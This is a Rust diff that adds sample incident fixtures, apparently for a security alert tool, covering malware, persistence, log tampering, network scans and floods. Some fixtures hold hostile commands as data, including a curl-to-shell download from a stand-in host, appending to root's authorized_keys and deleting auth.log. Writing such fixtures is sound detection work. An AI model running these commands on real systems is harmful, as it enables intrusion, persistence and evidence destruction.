@@ -17,6 +17,7 @@ pub(crate) fn typical() -> Vec<(&'static str, Incident)> {
     all.extend(privileges());
     all.extend(web());
     all.extend(system());
+    all.extend(signs());
     all
 }
 
@@ -234,6 +235,116 @@ fn system() -> Vec<(&'static str, Incident)> {
                 .entity(EntityKind::Service, "cron")
                 .fact(F::Actual, V::Number(0.0))
                 .fact(F::Typical, V::Number(12.0)),
+        ),
+    ]
+}
+
+fn signs() -> Vec<(&'static str, Incident)> {
+    let host = |it: Incident| it.say(F::Host, "toko");
+    vec![
+        (
+            "downloaded and run by sudo",
+            host(incident(K::Malware, 1, 0))
+                .entity(EntityKind::User, "budi")
+                .say(F::User, "budi")
+                .say(F::Sign, "download_run")
+                .say(F::Command, "/bin/sh -c curl -s http://203.0.113.9/x | sh"),
+        ),
+        (
+            "a web shell",
+            incident(K::Malware, 7, 90)
+                .entity(EntityKind::SourceAddress, "203.0.113.9")
+                .say(F::Source, "203.0.113.9")
+                .say(F::Sign, "web_shell")
+                .say(F::Path, "/uploads/x.php"),
+        ),
+        (
+            "a job and keys",
+            host(incident(K::Persistence, 2, 60))
+                .say(F::User, "root")
+                .say(F::Sign, "authorized_keys,cron_entry")
+                .say(F::Command, "/usr/bin/tee -a /root/.ssh/authorized_keys"),
+        ),
+        (
+            "logs deleted",
+            host(incident(K::LogTampering, 1, 0))
+                .say(F::User, "budi")
+                .say(F::Sign, "log_cleared")
+                .say(F::Command, "/usr/bin/rm /var/log/auth.log"),
+        ),
+        (
+            "permissions",
+            host(incident(K::FileActivity, 3, 600))
+                .say(F::User, "budi")
+                .say(F::Sign, "open_permissions,immutable")
+                .say(F::Command, "/usr/bin/chmod -R 777 /srv"),
+        ),
+        (
+            "port scan",
+            host(incident(K::SuspiciousNetwork, 120, 60))
+                .entity(EntityKind::SourceAddress, "203.0.113.9")
+                .say(F::Source, "203.0.113.9")
+                .say(F::Sign, "port_scan")
+                .n(F::Ports, 97)
+                .n(F::Destinations, 1)
+                .fact(F::Actual, V::Number(97.0))
+                .fact(F::Typical, V::Number(0.0))
+                .say(F::MeasureUnit, "distinct_ports"),
+        ),
+        (
+            "search for machines",
+            incident(K::SuspiciousNetwork, 40, 60)
+                .say(F::Source, "203.0.113.9")
+                .say(F::Sign, "host_sweep")
+                .n(F::Destinations, 40),
+        ),
+        (
+            "flood of many",
+            host(incident(K::SuspiciousNetwork, 1_200, 300))
+                .say(F::Sign, "firewall_flood")
+                .n(F::Sources, 311),
+        ),
+        (
+            "flood of connections",
+            host(incident(K::SuspiciousNetwork, 6, 300)).say(F::Sign, "syn_flood"),
+        ),
+        (
+            "rare address",
+            host(incident(K::SuspiciousNetwork, 1, 0))
+                .entity(EntityKind::Destination, "203.0.113.66")
+                .say(F::Destination, "203.0.113.66")
+                .say(F::Sign, "rare_outbound"),
+        ),
+        (
+            "much sent out",
+            incident(K::SuspiciousNetwork, 4, 900)
+                .say(F::Source, "203.0.113.9")
+                .say(F::Sign, "outbound_volume")
+                .n(F::Bytes, 3 << 30)
+                .say(F::Path, "/backup/db.sql.gz"),
+        ),
+        (
+            "out of memory",
+            host(incident(K::ResourceExhaustion, 3, 600))
+                .entity(EntityKind::Service, "kernel")
+                .say(F::Service, "kernel")
+                .say(F::Sign, "out_of_memory")
+                .say(F::Error, "Out of memory"),
+        ),
+        (
+            "crash",
+            host(incident(K::SystemError, 1, 0))
+                .say(F::Service, "kernel")
+                .say(F::Sign, "crash")
+                .say(F::Error, "segfault"),
+        ),
+        (
+            "a gap",
+            incident(K::MissingRecords, 1, 7_200)
+                .say(F::Sign, "gap")
+                .fact(F::Actual, V::Number(7_200.0))
+                .fact(F::Typical, V::Number(40.0))
+                .say(F::MeasureUnit, "seconds"),
         ),
     ]
 }
